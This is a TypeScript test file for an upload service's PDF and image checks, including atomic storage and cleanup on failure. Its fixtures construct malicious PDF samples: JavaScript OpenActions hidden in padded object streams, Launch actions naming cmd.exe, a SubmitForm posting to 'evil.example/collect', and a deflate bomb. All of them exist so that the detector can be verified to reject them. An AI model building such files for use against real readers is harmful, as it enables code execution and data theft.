import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSRF_HEADER } from '../src/modules/files/files.http';
import { jpegSize, pngSize } from '../src/modules/files/image-size';
import { inspectPdf } from '../src/modules/files/pdf-structure';
import { LocalFileStorage, type FileStorage } from '../src/modules/files/storage';
import { jpegOf, multipartFiles, PNG, pngOf } from './file-helpers';
import { ownerQuery, resetDatabase, seedFixture, TestApp } from './harness';

/**
 * Issue item 8: uploads. PDFs are decided by parsing them (every object, object streams, every
 * version of a redefined object), images by the dimensions their header declares, several files
 * in one request are all stored or none, and a request that fails after writing removes its files.
 */

const PLAIN = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj';

function pdf(body: string, trailer = '<< /Root 1 0 R >>'): Buffer {
  return Buffer.from(`%PDF-1.7\n${body}\ntrailer ${trailer}\n%%EOF\n`, 'latin1');
}

/** A PDF 1.5 object stream holding `objects` (number → dictionary text), with extra entries in its own dictionary. */
function objectStream(objects: Array<[number, string]>, dictExtra = '', filter = '/FlateDecode'): Buffer {
  let header = '';
  let body = '';
  for (const [n, text] of objects) {
    header += `${n} ${body.length} `;
    body += `${text}\n`;
  }
  const plain = Buffer.from(header + body, 'latin1');
  const data = filter === '/FlateDecode' ? deflateSync(plain) : plain;
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n5 0 obj << /Type /ObjStm /N ${objects.length} /First ${header.length} /Filter ${filter}${dictExtra} /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

const CATALOG_WITH_JS = [
  [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>'],
  [2, '<< /Type /Pages /Kids [] /Count 0 >>'],
  [3, '<< /S /JavaScript /JS (app.alert(1)) >>'],
] as Array<[number, string]>;

describe('the PDF structure check (parsed, not scanned)', () => {
  it.each([
    // The three files of the issue that passed the byte scanner:
    ['JavaScript in an object stream whose dictionary carries a name containing "obj"', objectStream(CATALOG_WITH_JS, ' /Subobj 1')],
    ['the same with 5,000 spaces of padding in the stream dictionary', objectStream(CATALOG_WITH_JS, `${' '.repeat(5000)}/Myobj 1`)],
    ['a Rendition action with a /JS script', pdf(`${PLAIN.replace('/Pages 2 0 R', '/Pages 2 0 R /OpenAction << /S /Rendition /JS (app.launchURL("x")) >>')}`)],
    // And every other kind of action that runs, launches or fetches something:
    ['a Launch action', pdf(`${PLAIN}\n3 0 obj << /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) /Win << /F (calc.exe) >> >> >> endobj`)],
    [
      'a page additional action (AA) running JavaScript',
      pdf(`${PLAIN}\n4 0 obj << /Type /Page /Parent 2 0 R /AA << /O 6 0 R >> >> endobj\n6 0 obj << /S /JavaScript /JS 7 0 R >> endobj`),
    ],
    [
      'a form field whose keystroke action is a referenced script',
      pdf(`${PLAIN}\n8 0 obj << /FT /Tx /T (a) /AA << /K 9 0 R >> >> endobj\n9 0 obj << /S /J#61vaScript /JS (x) >> endobj`),
    ],
    ['SubmitForm', pdf(`${PLAIN}\n3 0 obj << /S /SubmitForm /F (https://evil.example/collect) >> endobj`)],
    ['ImportData', pdf(`${PLAIN}\n3 0 obj << /S /ImportData /F (data.fdf) >> endobj`)],
    ['GoToR to another file', pdf(`${PLAIN}\n3 0 obj << /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >> endobj`)],
    ['GoToE into an embedded file', pdf(`${PLAIN}\n3 0 obj << /S /GoToE /T << /R /C /N (a) >> >> endobj`)],
    ['a document-level JavaScript name tree', pdf(`${PLAIN.replace('/Pages 2 0 R', '/Pages 2 0 R /Names << /JavaScript 3 0 R >>')}`)],
    ['an embedded file', pdf(`${PLAIN}\n3 0 obj << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >> endobj`)],
    ['a file attachment annotation', pdf(`${PLAIN}\n3 0 obj << /Type /Annot /Subtype /FileAttachment /FS 4 0 R >> endobj`)],
    ['an XFA form', pdf(`${PLAIN.replace('/Pages 2 0 R', '/Pages 2 0 R /AcroForm << /Fields [] /XFA 3 0 R >>')}`)],
    ['a RichMedia annotation', pdf(`${PLAIN}\n3 0 obj << /Type /Annot /Subtype /RichMedia >> endobj`)],
    ['a URI action opening a local file', pdf(`${PLAIN}\n3 0 obj << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> endobj`)],
    ['a URI action with javascript:', pdf(`${PLAIN}\n3 0 obj << /S /URI /URI <6a6176617363726970743a616c657274283129> >> endobj`)],
    [
      'JavaScript hidden in an older version of an object redefined by an incremental update',
      Buffer.concat([
        pdf(`${PLAIN.replace('/Pages 2 0 R', '/Pages 2 0 R /OpenAction 3 0 R')}\n3 0 obj << /S /JavaScript /JS (x) >> endobj`),
        Buffer.from('3 0 obj << /S /GoTo /D [0 /Fit] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
      ]),
    ],
  ])('refuses %s', async (_what, bytes) => {
    expect(await inspectPdf(bytes)).toMatchObject({ kind: 'ACTIVE' });
  });

  it.each([
    ['an encrypted file', pdf(PLAIN, '<< /Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 >> >>')],
    ['a damaged object', Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages (unclosed\nendobj\n%%EOF\n', 'latin1')],
    ['an object stream in a filter the check does not read', objectStream(CATALOG_WITH_JS, '', '/LZWDecode')],
    [
      'a deflate bomb in an object stream (70 MB inflated)',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n', 'latin1'),
        deflateSync(Buffer.concat([Buffer.from('1 0 << >>'), Buffer.alloc(70 * 1024 * 1024, 0x20)])),
        Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1'),
      ]),
    ],
  ])('cannot check, so refuses, %s', async (_what, bytes) => {
    expect(await inspectPdf(bytes)).toMatchObject({ kind: 'UNREADABLE' });
  });

  it.each([
    ['a plain document', pdf(PLAIN)],
    [
      'a document whose catalog lives in an object stream',
      objectStream(
        [
          [1, '<< /Type /Catalog /Pages 2 0 R >>'],
          [2, '<< /Type /Pages /Kids [] /Count 0 >>'],
        ],
        ' /Subobj 1',
      ),
    ],
    [
      'web links, internal links and named actions',
      pdf(
        `${PLAIN}\n3 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.gov.cn/) >> >> endobj\n4 0 obj << /S /GoTo /D [0 /Fit] /Next << /S /Named /N /NextPage >> >> endobj\n5 0 obj << /S /URI /URI (mailto:a@b.cn) >> endobj`,
      ),
    ],
    [
      'text that merely mentions /JavaScript inside a content stream',
      pdf(`${PLAIN}\n3 0 obj << /Length 27 >>\nstream\nBT (/S /JavaScript) Tj ET\nendstream\nendobj`),
    ],
  ])('accepts %s', async (_what, bytes) => {
    expect(await inspectPdf(bytes)).toBeNull();
  });
});

describe('image dimensions from the header', () => {
  it('reads PNG IHDR and JPEG SOF dimensions; malformed headers have none', () => {
    expect(pngSize(pngOf(50_000, 50_000))).toEqual({ width: 50_000, height: 50_000 });
    expect(pngSize(PNG)).toEqual({ width: 1, height: 1 });
    expect(jpegSize(jpegOf(4032, 3024))).toEqual({ width: 4032, height: 3024 });
    expect(pngSize(Buffer.concat([PNG.subarray(0, 8), Buffer.from('garbage-garbage-garbage')]))).toBeNull();
    expect(jpegSize(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a]))).toBeNull();
    expect(jpegSize(jpegOf(100, 0))).toBeNull();
  });
});

describe('uploads through /api/files', () => {
  let t: TestApp;
  let dir: string;
  let cookie: string;

  const objectsOnDisk = () => fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).length;
  const rows = async () => Number((await ownerQuery(`select count(*) as n from stored_file`))[0].n);
  const send = (files: Array<{ filename: string; bytes: Buffer }>) => {
    const body = multipartFiles(files);
    return t.app.inject({
      method: 'POST',
      url: '/api/files',
      headers: { 'content-type': body.contentType, cookie, [CSRF_HEADER]: '1' },
      payload: body.payload,
    });
  };

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'xiejiu-upload-'));
    t = await TestApp.open({ fileStorageDir: dir, fileMaxCount: 3, imageMaxSide: 10_000, imageMaxPixels: 40_000_000 });
    await resetDatabase();
    await seedFixture(t);
    cookie = await t.cookieFor('village1a');
  });
  afterAll(async () => {
    await t?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('refuses the three PDFs of the issue with FILE_ACTIVE_CONTENT and stores nothing', async () => {
    for (const bytes of [
      objectStream(CATALOG_WITH_JS, ' /Subobj 1'),
      objectStream(CATALOG_WITH_JS, `${' '.repeat(5000)}/Myobj 1`),
      pdf(`${PLAIN}\n3 0 obj << /S /Rendition /JS (x) >> endobj`),
    ]) {
      const res = await send([{ filename: '申请书.pdf', bytes }]);
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ error: 'BAD_USER_INPUT', reason: 'FILE_ACTIVE_CONTENT', message: expect.stringMatching(/不安全内容/) });
    }
    expect(await rows()).toBe(0);
    expect(objectsOnDisk()).toBe(0);
  });

  it('refuses a 50,000 × 50,000 PNG and an over-long JPEG by their declared dimensions; accepts a phone photo', async () => {
    const huge = await send([{ filename: 'scan.png', bytes: pngOf(50_000, 50_000) }]);
    expect(huge.statusCode).toBe(400);
    expect(huge.json()).toMatchObject({ reason: 'FILE_IMAGE_TOO_LARGE', message: expect.stringContaining('50000 × 50000') });
    const tall = await send([{ filename: 'long.jpg', bytes: jpegOf(800, 12_000) }]);
    expect(tall.json()).toMatchObject({ reason: 'FILE_IMAGE_TOO_LARGE' });
    const manyPixels = await send([{ filename: 'wide.png', bytes: pngOf(9000, 9000) }]);
    expect(manyPixels.json()).toMatchObject({ reason: 'FILE_IMAGE_TOO_LARGE', message: expect.stringContaining('4000 万') });
    const broken = await send([{ filename: 'broken.jpg', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46]) }]);
    expect(broken.json()).toMatchObject({ reason: 'FILE_UNREADABLE' });
    expect(await rows()).toBe(0);
    const photo = await send([{ filename: '户口簿.jpg', bytes: jpegOf(4032, 3024) }]);
    expect(photo.statusCode).toBe(201);
    expect(photo.json()).toMatchObject({ mime: 'image/jpeg', name: '户口簿.jpg' });
  });

  it('stores several files of one request together, or none of them when one is refused', async () => {
    const beforeRows = await rows();
    const beforeDisk = objectsOnDisk();
    const ok = await send([
      { filename: 'a.png', bytes: PNG },
      { filename: 'b.jpg', bytes: jpegOf(640, 480) },
      { filename: 'c.pdf', bytes: pdf(PLAIN) },
    ]);
    expect(ok.statusCode).toBe(201);
    expect(ok.json().files.map((f: { name: string }) => f.name)).toEqual(['a.png', 'b.jpg', 'c.pdf']);
    expect(await rows()).toBe(beforeRows + 3);
    expect(objectsOnDisk()).toBe(beforeDisk + 3);

    const bad = await send([
      { filename: 'a.png', bytes: PNG },
      { filename: 'b.jpg', bytes: jpegOf(640, 480) },
      { filename: '表格.pdf', bytes: pdf(`${PLAIN}\n3 0 obj << /S /JavaScript /JS (x) >> endobj`) },
    ]);
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ reason: 'FILE_ACTIVE_CONTENT', message: expect.stringMatching(/^第 3 个文件（表格\.pdf）：/) });
    const tooMany = await send([PNG, PNG, PNG, PNG].map((bytes, i) => ({ filename: `${i}.png`, bytes })));
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.json()).toMatchObject({ reason: 'FILE_TOO_MANY', message: expect.stringContaining('最多上传 3 个') });
    expect(await rows()).toBe(beforeRows + 3);
    expect(objectsOnDisk()).toBe(beforeDisk + 3);
  });

  it('removes what it wrote when a later write or the transaction fails', async () => {
    const beforeRows = await rows();
    const beforeDisk = objectsOnDisk();
    const local = new LocalFileStorage(dir);
    let puts = 0;
    // Storage that fails on the second object (disk full).
    const failing: FileStorage = {
      get: (k) => local.get(k),
      delete: (k) => local.delete(k),
      put: async (k, b) => (++puts === 2 ? Promise.reject(new Error('ENOSPC')) : local.put(k, b)),
    };
    t.runtime.fileStorage = failing;
    try {
      const res = await send([
        { filename: 'a.png', bytes: PNG },
        { filename: 'b.png', bytes: PNG },
      ]);
      expect(res.statusCode).toBe(500);
      expect(objectsOnDisk()).toBe(beforeDisk);
    } finally {
      t.runtime.fileStorage = undefined;
    }
    // The database refuses the rows after both objects were written.
    await ownerQuery(`revoke insert on stored_file from ${t.runtime.config.appDbUser}`);
    try {
      const res = await send([
        { filename: 'a.png', bytes: PNG },
        { filename: 'b.png', bytes: PNG },
      ]);
      expect(res.statusCode).toBe(500);
    } finally {
      await ownerQuery(`grant insert on stored_file to ${t.runtime.config.appDbUser}`);
    }
    expect(objectsOnDisk()).toBe(beforeDisk);
    expect(await rows()).toBe(beforeRows);
  });
});
